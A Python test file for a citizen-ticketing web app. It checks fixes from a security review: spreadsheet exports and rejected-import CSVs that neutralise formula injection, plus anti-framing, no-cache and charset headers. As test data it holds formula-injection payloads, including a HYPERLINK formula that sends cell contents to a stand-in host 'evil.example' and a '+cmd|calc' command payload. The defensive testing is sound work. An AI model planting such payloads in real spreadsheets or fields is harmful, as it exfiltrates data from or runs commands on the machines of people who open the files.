"""What a security review of the running system found (Dec 2026): citizens' words that became spreadsheet formulas
or broke an export, pages another site could frame, pages kept in a shared PC's cache, a charset said twice."""
from __future__ import annotations

from io import BytesIO

from openpyxl import Workbook, load_workbook

from tests.factories import make_ticket
from ticketing.models import TicketStatus
from ticketing.services import importing, spreadsheet

S = TicketStatus
FORMULA = '=HYPERLINK("http://evil.example/?x="&B1,"详情")'


def test_a_title_that_reads_as_a_formula_is_exported_as_text(db, users, now, auth, client):
    make_ticket(db, users, now, status=S.DISPATCHED, title=FORMULA, caller_name="=1+2",
                content="=1+1 医保卡丢失补办\x01\x0b\x1b怎么办")  # control characters openpyxl refuses
    db.session.commit()
    auth.login("supervisor")
    response = client.get("/tickets/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)}
    assert FORMULA in cells and cells[FORMULA].data_type == "s"
    assert "=1+1 医保卡丢失补办怎么办" in cells and cells["=1+1 医保卡丢失补办怎么办"].data_type == "s"
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert client.get("/tickets/export.xlsx?q=%00").status_code == 200  # the query is written into A1


def test_append_keeps_numbers_and_makes_every_string_text():
    sheet = Workbook().active
    spreadsheet.append(sheet, ["=SUM(A1:A9)", "+86 138", "-", "@x", 3, 0.5, None, "普通\x07文字"])
    values = [cell.value for cell in sheet[1]]
    assert values == ["=SUM(A1:A9)", "+86 138", "-", "@x", 3, 0.5, None, "普通文字"]
    assert [cell.data_type for cell in sheet[1]][:4] == ["s", "s", "s", "s"]


def test_rejected_rows_open_in_excel_as_text_and_read_back_as_they_were(tmp_path):
    rows = [importing.RejectedRow(3, '=HYPERLINK("http://evil.example","x")', "诉求类型：未填写"),
            importing.RejectedRow(4, "+cmd|calc", "缺少诉求内容"), importing.RejectedRow(5, "MB-2026-0001", "重复")]
    text = importing.rejected_csv(rows)
    assert "\n3,\"'=HYPERLINK(" in text and "\n4,'+cmd|calc," in text and "\n5,MB-2026-0001," in text
    path = tmp_path / "rejected.csv"
    path.write_text(text, encoding="utf-8")
    assert importing.read_rejected_csv(path) == rows


def test_pages_say_they_are_not_to_be_framed_sniffed_or_cached(users, auth, client, db, now):
    ticket = make_ticket(db, users, now, status=S.DISPATCHED)
    db.session.commit()
    for path in ("/login",):
        headers = client.get(path).headers
        assert headers["X-Frame-Options"] == "SAMEORIGIN" and "frame-ancestors 'self'" in headers["Content-Security-Policy"]
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "same-origin"
    auth.login("supervisor")
    for path in (f"/tickets/{ticket.number}", "/tickets/export.xlsx", "/api/v1/openapi.json"):
        response = client.get(path)
        assert response.headers["X-Frame-Options"] == "SAMEORIGIN", path
        assert "no-store" in response.headers.get("Cache-Control", ""), path
    with client.get("/static/app.css") as static:
        assert "no-store" not in static.headers.get("Cache-Control", "")
        assert static.headers["X-Content-Type-Options"] == "nosniff"


def test_a_text_file_is_served_with_its_charset_once(app, db, users, now, auth, client, tmp_path):
    before = app.config["ATTACHMENT_DIR"]
    app.config["ATTACHMENT_DIR"] = str(tmp_path)
    try:
        ticket = make_ticket(db, users, now, status=S.ACCEPTED)
        db.session.commit()
        auth.login("staff_dybz")
        client.post(f"/tickets/{ticket.number}/attachments", content_type="multipart/form-data",
                    data={"file": [(BytesIO("医院收费清单说明".encode()), "说明.txt")]})
        db.session.refresh(ticket)
        (stored,) = ticket.attachments
        with client.get(f"/tickets/{ticket.number}/attachments/{stored.id}") as response:
            assert response.status_code == 200 and response.headers["Content-Type"] == "text/plain; charset=utf-8"
    finally:
        app.config["ATTACHMENT_DIR"] = before
